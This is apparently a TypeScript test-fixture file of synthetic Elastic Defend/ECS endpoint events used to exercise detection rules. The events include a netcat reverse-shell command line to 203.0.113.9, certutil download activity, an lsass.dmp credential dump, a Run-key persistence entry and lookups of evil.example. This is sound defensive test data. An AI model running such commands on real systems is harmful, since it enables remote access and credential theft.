/** Elastic Defend and other writers of the Elastic Common Schema. */
import { COMMAND, IMAGE, type Layout, PARENT, SID, short, stored, TIME } from "./facts.ts";

const agent = { id: "5d1c", type: "endpoint", version: "8.13.0" };
const elasticHost = (os: string) => ({
  ...{ hostname: "ws07", name: "ws07", id: "h-1", ip: ["10.0.1.7"], mac: ["00-50-56-00-00-07"] },
  os: { type: os, name: os, platform: os, family: os, kernel: "1", Ext: { variant: "x" } },
});
const endpoint = (dataset: string, os: string, event: object, rest: object) => ({
  ...{ "@timestamp": TIME, agent, ecs: { version: "8.10.0" }, message: `Endpoint ${dataset} event` },
  data_stream: { dataset: `endpoint.events.${dataset}`, namespace: "default", type: "logs" },
  event: { kind: "event", module: "endpoint", dataset: `endpoint.events.${dataset}`, outcome: "unknown", ...event },
  host: elasticHost(os),
  user: { domain: "CORP", name: "mallory", id: SID },
  ...rest,
});
const elasticProcess = {
  ...{ executable: IMAGE, name: "certutil.exe", pid: 6700, entity_id: "ZTMx" },
  ...{ args: ["certutil.exe", "-urlcache"], args_count: 2, command_line: COMMAND },
  hash: { md5: "00".repeat(16), sha256: "aa".repeat(32) },
  pe: { original_file_name: "CertUtil.exe" },
  parent: { executable: PARENT, command_line: "cmd.exe", name: "cmd.exe", pid: 4596, entity_id: "ZTMw" },
};
export const elastic: readonly Layout[] = [
  stored(
    "Elastic Defend: process",
    [
      endpoint(
        "process",
        "windows",
        { category: ["process"], type: ["start"], action: "start" },
        { process: elasticProcess },
      ),
    ],
    short,
  ),
  stored(
    "Elastic Defend: process of Linux",
    [
      endpoint(
        "process",
        "linux",
        { category: ["process"], type: ["start"], action: "exec" },
        {
          process: {
            executable: "/usr/bin/nc",
            command_line: "nc -e /bin/sh 203.0.113.9 4444",
            name: "nc",
            pid: 9,
            parent: { executable: "/bin/bash" },
          },
        },
      ),
    ],
    { rules: ["netcat"], host: "ws07", user: "mallory", image: "/usr/bin/nc" },
  ),
  stored(
    "Elastic Defend: registry",
    [
      endpoint(
        "registry",
        "windows",
        { category: ["registry"], type: ["change"], action: "modification" },
        {
          process: { executable: "C:\\Windows\\System32\\reg.exe", pid: 7, entity_id: "a" },
          registry: {
            ...{ hive: "HKEY_USERS", key: `${SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, value: "upd" },
            path: `HKEY_USERS\\${SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd`,
            data: { strings: ["C:\\Users\\Public\\a.exe"], type: "REG_SZ" },
          },
        },
      ),
    ],
    { rules: ["run-key"], host: "ws07", user: "mallory", image: "C:\\Windows\\System32\\reg.exe" },
  ),
  stored(
    "Elastic Defend: file",
    [
      endpoint(
        "file",
        "windows",
        { category: ["file"], type: ["creation"], action: "creation" },
        {
          process: { executable: "C:\\Windows\\System32\\rundll32.exe", pid: 7, entity_id: "a" },
          file: { path: "C:\\Users\\Public\\lsass.dmp", name: "lsass.dmp", extension: "dmp", size: 1 },
        },
      ),
    ],
    { rules: ["dump-file"], host: "ws07", user: "mallory", image: "C:\\Windows\\System32\\rundll32.exe" },
  ),
  stored(
    "Elastic Defend: network",
    [
      endpoint(
        "network",
        "windows",
        { category: ["network"], type: ["start"], action: "connection_attempted" },
        {
          process: { executable: IMAGE, pid: 7, entity_id: "a", name: "certutil.exe" },
          ...{ source: { ip: "10.0.1.7", port: 50_000 }, destination: { ip: "203.0.113.9", port: 4444 } },
          network: { direction: "egress", transport: "tcp", type: "ipv4" },
        },
      ),
    ],
    { rules: ["connected"], host: "ws07", user: "mallory", image: IMAGE },
  ),
  stored(
    "Elastic Defend: name asked",
    [
      endpoint(
        "network",
        "windows",
        { category: ["network"], type: ["protocol", "info"], action: "lookup_requested" },
        {
          process: { executable: IMAGE, pid: 7, entity_id: "a", name: "certutil.exe" },
          ...{ dns: { question: { name: "evil.example", type: "A" } }, network: { protocol: "dns" } },
        },
      ),
    ],
    { rules: ["asked"], host: "ws07", user: "mallory", image: IMAGE },
  ),
  stored(
    "Elastic Defend: library",
    [
      endpoint(
        "library",
        "windows",
        { category: ["library"], type: ["start"], action: "load" },
        {
          process: { executable: IMAGE, pid: 7, entity_id: "a", name: "certutil.exe" },
          dll: { path: "C:\\Users\\Public\\comsvcs.dll", name: "comsvcs.dll", hash: { sha256: "aa".repeat(32) } },
        },
      ),
    ],
    { rules: ["loaded"], host: "ws07", user: "mallory", image: IMAGE },
  ),
  stored(
    "ECS with dotted keys",
    [
      {
        ...{ "@timestamp": TIME, "event.category": "process", "event.type": "start", "event.action": "start" },
        ...{ "event.module": "endpoint", "host.name": "ws07", "host.os.type": "windows", "user.name": "mallory" },
        ...{ "process.executable": IMAGE, "process.command_line": COMMAND, "process.parent.executable": PARENT },
      },
    ],
    short,
  ),
  stored(
    "hit of an Elasticsearch search",
    [
      {
        ...{ _index: ".ds-logs-endpoint.events.process-default-2026.05.04-000001", _id: "a", _score: 1 },
        _source: endpoint(
          "process",
          "windows",
          { category: ["process"], type: ["start"], action: "start" },
          { process: elasticProcess },
        ),
      },
    ],
    short,
  ),
  stored(
    "answer of an Elasticsearch search",
    [
      {
        ...{ took: 3, timed_out: false, _shards: { total: 1, successful: 1 } },
        hits: {
          ...{ total: { value: 1, relation: "eq" }, max_score: 1 },
          hits: [
            {
              ...{ _index: "logs-endpoint", _id: "a", _score: 1 },
              _source: endpoint(
                "process",
                "windows",
                { category: ["process"], type: ["start"], action: "start" },
                { process: elasticProcess },
              ),
            },
          ],
        },
      },
    ],
    short,
  ),
  stored(
    "names asked, ECS",
    [
      {
        ...{ "@timestamp": TIME, type: "dns", method: "QUERY", status: "OK", host: { name: "sensor1" } },
        agent: { type: "packetbeat", version: "8.13.0" },
        event: {
          kind: "event",
          category: ["network"],
          type: ["connection", "protocol"],
          dataset: "dns",
          action: "dns",
        },
        ...{ source: { ip: "10.0.1.7", port: 50_000 }, destination: { ip: "10.0.0.53", port: 53 } },
        dns: {
          ...{ question: { name: "evil.example", type: "A", class: "IN" }, response_code: "NOERROR" },
          answers: [{ name: "evil.example", type: "A", data: "203.0.113.9" }],
        },
      },
    ],
    { rules: ["dns"], host: "sensor1" },
  ),
];
